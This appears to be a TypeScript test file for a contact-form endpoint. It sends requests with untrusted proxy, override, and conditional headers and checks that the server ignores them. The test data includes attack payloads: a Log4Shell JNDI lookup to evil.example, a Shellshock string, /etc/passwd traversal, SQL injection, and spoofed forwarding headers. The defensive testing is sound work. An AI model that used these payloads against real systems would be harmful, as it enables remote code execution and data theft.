import { forms } from '@poyanil/domain';
import type { RawCase } from '../../support/raw-case.ts';
import { bodyOf, submission, submissionBefore, typeOf } from '../../support/raw-case.ts';
import { postText } from '../../support/raw-request.ts';

// Headers that other servers believe, or do something for.

const CONTACT = forms.contact.path;
const body = bodyOf('contact');
const content = [typeOf('contact'), `Content-Length: ${body.length}`];

const ignored = (name: string, ...lines: string[]): RawCase => ({
  name,
  sent: submission('contact', lines),
  answers: [202],
});

export const believedCases: RawCase[] = [
  ignored(
    'another host for a proxy',
    'X-Forwarded-Host: evil.example',
    'X-Host: evil.example',
    'Forwarded: host=evil.example;for=6.6.6.6',
  ),
  ignored(
    'an address of a proxy',
    'X-Forwarded-For: 6.6.6.6, 127.0.0.1',
    'X-Real-IP: 6.6.6.6',
    'True-Client-IP: 6.6.6.6',
    'Client-IP: 6.6.6.6',
  ),
  ignored(
    'addresses that are none',
    "X-Forwarded-For: ' OR 1=1 --, <script>, ::ffff:1.2.3.4%eth0, ,,",
  ),
  ignored(
    'another scheme and port',
    'X-Forwarded-Proto: https',
    'X-Forwarded-Port: 0',
    'Front-End-Https: on',
  ),
  ignored('another prefix', 'X-Forwarded-Prefix: //evil.example', 'X-Script-Name: /evil'),
  {
    name: 'another address that some servers take instead',
    sent: postText(
      '/api/v1/nothing',
      [...content, `X-Original-URL: ${CONTACT}`, `X-Rewrite-URL: ${CONTACT}`],
      body,
    ),
    answers: ['not-found'],
  },
  ignored(
    'a method that some servers take instead',
    'X-HTTP-Method-Override: DELETE',
    'X-Method: PUT',
  ),
  ignored('a proxy for outgoing requests', 'Proxy: http://evil.example:80'),
  ignored(
    'credentials that nobody asked for',
    'Authorization: Basic YWRtaW46YWRtaW4=',
    'Cookie: admin=1',
  ),
  ignored('a part of the answer', 'Range: bytes=0-0', 'If-Range: "a"'),
  ignored(
    'conditions',
    'If-None-Match: *',
    'If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT',
    'If-Match: "x"',
  ),
  ignored(
    'an answer of another type',
    'Accept: application/xml',
    'Accept-Encoding: br;q=9, *;q=0',
    'Accept-Charset: utf-7',
  ),
  ignored(
    'a file name that template engines look up',
    'Accept-Language: ../../../../etc/passwd%00',
  ),
  ignored(
    'text for a log that looks up addresses',
    `User-Agent: \${jndi:ldap://evil.example/a}`,
    'Referer: () { :; }; id',
  ),
  ignored(
    'a wish for trailers',
    'TE: trailers, chunked;q=9',
    'Max-Forwards: 0',
    'Via: 1.1 evil.example',
  ),
  ignored('an expectation that nobody meets', 'Expect: the-moon'),
  {
    name: 'who asks before sending',
    sent: submission('contact', ['Expect: 100-continue']),
    answers: [100, 202],
  },
  {
    name: 'who asks before sending, twice',
    sent: submission('contact', ['Expect: 100-continue', 'Expect: 100-continue']),
    answers: [202],
  },
  {
    name: 'who asks in HTTP/1.0, which knows no such answer',
    sent: submission('contact', ['Expect: 100-continue']).replace('HTTP/1.1', 'HTTP/1.0'),
    answers: [202],
  },
  {
    name: 'who asks before sending too much',
    sent: postText(CONTACT, [
      typeOf('contact'),
      'Content-Length: 99999999',
      'Expect: 100-continue',
    ]),
    answers: ['content-too-large'],
  },
  {
    name: 'a connection that is to be kept for ever',
    sent:
      submissionBefore('contact', ['Keep-Alive: timeout=99999, max=99999']) + submission('contact'),
    answers: [202, 202],
  },
];
